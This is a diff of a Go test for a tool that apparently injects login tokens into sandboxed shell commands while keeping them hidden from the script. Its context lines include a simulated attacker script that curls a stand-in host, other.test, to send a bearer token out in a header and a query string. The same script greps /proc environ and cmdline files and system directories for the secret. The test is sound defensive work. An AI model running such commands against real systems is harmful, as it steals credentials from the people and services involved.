@@ -73,6 +73,11 @@ login: {file: .fake/auth.json, remedy: run fake login, access: o.access, refresh
 	}
 	shell := func(script string) harness.Outcome { return run("X=1", "--for", "shell", "--", "-c", script) }
 
+	next := func() request {
+		require.NotEmpty(t, seen)
+		return <-seen
+	}
+
 	o := shell("true")
 	assert.Equal(t, 125, o.Code)
 	assert.Contains(t, o.Stderr, "shell: no login in "+file+": run fake login (and no key: the key of api.test cannot be read: env: "+variable+" is not set")
@@ -87,7 +92,7 @@ login: {file: .fake/auth.json, remedy: run fake login, access: o.access, refresh
 	assert.Contains(t, o.Stdout, "[]\n", "no variable of the key that is not used")
 	assert.Contains(t, o.Stdout, "you said "+strings.Repeat("*", len("Bearer sesame-access-1111")))
 	assert.NotContains(t, o.Stdout, "sesame")
-	assert.Equal(t, request{"/v1/x", "Bearer sesame-access-1111", ""}, <-seen)
+	assert.Equal(t, request{"/v1/x", "Bearer sesame-access-1111", ""}, next())
 
 	// An attacker: other paths and hosts, and where a token could be.
 	o = shell(token + `curl -sS https://api.test/keys; curl -sS https://other.test/ -H "Authorization: Bearer $t"; curl -sS "https://other.test/?$t"
@@ -99,7 +104,7 @@ grep -rsl '[s]esame-' /proc/[0-9]*/environ /proc/[0-9]*/cmdline /etc /run /tmp /
 	assert.NotContains(t, o.Stdout+o.Stderr, "sesame")
 	assert.NotContains(t, o.Stdout, "/proc/")
 	assert.Contains(t, o.Stderr, "No such file")
-	assert.Equal(t, request{"/v1/mine", "Bearer sesame-access-1111", ""}, <-seen, "nobody sends requests under a login of his own")
+	assert.Equal(t, request{"/v1/mine", "Bearer sesame-access-1111", ""}, next(), "nobody sends requests under a login of his own")
 	assert.Empty(t, seen)
 
 	// A run without the program has no login, and one with a key uses that.
@@ -108,12 +113,12 @@ grep -rsl '[s]esame-' /proc/[0-9]*/environ /proc/[0-9]*/cmdline /etc /run /tmp /
 	assert.NotContains(t, o.Stdout, ".fake")
 	o = run(variable+"=sesame-key-1111", "--for", "shell", "--", "-c", "curl -sS https://api.test/v1/x; echo [$LOGGED_IN]; ls ~/.fake")
 	assert.Contains(t, o.Stdout, "[]\n")
-	assert.Equal(t, request{"/v1/x", "", "sesame-key-1111"}, <-seen)
+	assert.Equal(t, request{"/v1/x", "", "sesame-key-1111"}, next())
 
 	// The token ends: the daemon refreshes it, and writes the file.
 	login(-time.Minute)
 	o = shell("curl -sS https://api.test/v1/x")
-	assert.Equal(t, request{"/v1/x", "Bearer sesame-access-2222", ""}, <-seen, o.Stderr)
+	assert.Equal(t, request{"/v1/x", "Bearer sesame-access-2222", ""}, next(), o.Stderr)
 	text := harness.ReadAll(t, file)
 	for _, want := range []string{"sesame-access-2222", "sesame-refresh-2222", "sesame-others"} {
 		assert.Contains(t, text, want)
